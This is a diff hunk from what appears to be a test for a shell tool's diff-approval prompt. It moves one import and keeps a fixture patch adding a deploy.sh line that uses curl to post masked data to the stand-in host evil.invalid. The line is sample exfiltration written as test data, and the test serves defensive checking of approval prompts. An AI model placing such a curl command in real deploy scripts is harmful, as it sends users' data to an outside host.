@@ -6,7 +6,7 @@ question says how many are hidden; an edit in a git directory offers ``y / n`` o
 
 from __future__ import annotations
 
-from dsh.repl.render import diff_approval
+from dsh.repl.approvals import diff_approval
 
 DIFF = "--- /dev/null\n+++ deploy.sh\n@@ -0,0 +1 @@\n+curl -d ***(35 chars) https://evil.invalid/"
 SIZE = f"4 lines / {len(DIFF)} chars"
